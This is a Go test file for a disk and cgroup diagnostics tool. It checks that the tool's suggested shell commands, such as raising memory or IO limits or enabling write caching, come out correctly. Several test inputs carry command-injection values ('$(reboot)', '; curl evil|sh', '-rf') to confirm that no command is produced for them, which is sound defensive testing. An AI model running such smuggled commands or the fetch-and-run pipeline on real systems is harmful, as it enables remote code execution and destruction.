package diagnose

import (
	"testing"
	"time"

	"iocause/internal/sample"
)

// A command names the file that the limit was read from, and there is none where
// a name would need quoting or the limit would not rise.
func TestMemoryLimitCommand(t *testing.T) {
	for _, c := range []struct {
		cgroup, class, source string
		size                  float64
		want                  string
	}{
		{"/db", "max", "memory.limit_in_bytes", 113.5 * (1 << 20), "echo 114M > /sys/fs/cgroup/memory/db/memory.limit_in_bytes"},
		{"/load.d/db", "max", "memory.max", 200 << 20, "echo 201M > /sys/fs/cgroup/load.d/db/memory.max"},
		{"/load", "high", "memory.high", 200 << 20, "echo 201M > /sys/fs/cgroup/load/memory.high"},
		{"/system.slice/pg.service", "max", "memory.max", 200 << 20, "systemctl set-property --runtime pg.service MemoryMax=201M"},
		{"/db", "max", "memory.max", 48 << 20, ""},
		{"/$(reboot)", "max", "memory.max", 200 << 20, ""},
		{"/a b", "max", "memory.max", 200 << 20, ""},
		{"/../x", "max", "memory.max", 200 << 20, ""},
		{"/db", "max", "docker stats", 200 << 20, ""},
	} {
		r := sample.NewRecorder(time.Unix(0, 0))
		r.Put(sample.CgroupMemLimit, sample.Entity{Cgroup: c.cgroup, Class: c.class}, 48<<20, c.source)
		at := Case{w: r.Window(time.Unix(1, 0))}
		if got := at.memoryLimitCommand(c.cgroup, c.size); got != c.want {
			t.Errorf("%s, %s to %.0f: %q, want %q", c.cgroup, c.source, c.size, got, c.want)
		}
	}
}

func TestIOLimitCommand(t *testing.T) {
	for _, c := range []struct{ cgroup, device, class, source, want string }{
		{"/db", "vda", "reads", "blkio.throttle.read_iops_device", `echo "$(cat /sys/class/block/vda/dev) 0" > /sys/fs/cgroup/blkio/db/blkio.throttle.read_iops_device`},
		{"/db", "nvme0n1", "write_bytes", "io.max", `echo "$(cat /sys/class/block/nvme0n1/dev) wbps=max" > /sys/fs/cgroup/db/io.max`},
		{"/d;b", "vda", "reads", "io.max", ""},
		{"/db", "", "reads", "io.max", ""},
		{"/db", "vda", "reads", "blkio.throttle.write_iops_device", ""},
	} {
		r := sample.NewRecorder(time.Unix(0, 0))
		r.Put(sample.CgroupIOLimit, sample.Entity{Cgroup: c.cgroup, Device: c.device, Class: c.class}, 100, c.source)
		at := Case{w: r.Window(time.Unix(1, 0))}
		if got := at.ioLimitCommand(&ioLimit{cgroup: c.cgroup, device: c.device, class: c.class}); got != c.want {
			t.Errorf("%+v: %q", c, got)
		}
	}
}

// Names in a recording of somebody else may be any text: no command holds one that
// means more to a shell, and no command ends where its name should be.
func TestCommandsHoldOnlyPlainNames(t *testing.T) {
	for label, want := range map[string]string{
		"luks-home":       "cryptsetup refresh --perf-no_read_workqueue --perf-no_write_workqueue luks-home; cryptsetup benchmark",
		"x; curl evil|sh": "",
		"":                "",
	} {
		m := newMachine()
		m.slow("sda", "read", "read", 4000, 0.0005)
		m.crypt(0.8)
		m.is(sample.DeviceLabel, "dm-0", label, 1)
		r := m.judge()
		if r.Primary != EncryptionCPU || r.Findings[0].Advice[0].Command != want || r.Findings[0].Advice[0].Do == "" {
			t.Errorf("%q: %s, %+v", label, r.Primary, r.Findings[0].Advice)
		}
	}
	var c Case
	for device, want := range map[string]string{"nvme0n1": "nvme set-feature /dev/nvme0n1 --feature-id 6 --value 1", "vda": "echo 'write back' > /sys/block/vda/cache_type",
		"sda": "hdparm -W1 /dev/sda", "v": "hdparm -W1 /dev/v", "": "", "sda$(reboot)": ""} {
		if got := c.cacheOnCommand(device); got != want {
			t.Errorf("%q: %q", device, got)
		}
	}
	for _, name := range []string{"", "a b", "$(x)", "-rf"} {
		if a := (Advice{Do: "look"}).with("look "+name, "sda", name); a.Command != "" {
			t.Errorf("%q: %q", name, a.Command)
		}
	}
	for _, a := range c.piecesAdvice("", 0, &Culprit{}, promise{}) {
		if a.Command != "" {
			t.Errorf("no file and no file system are known: %q", a.Command)
		}
	}
}
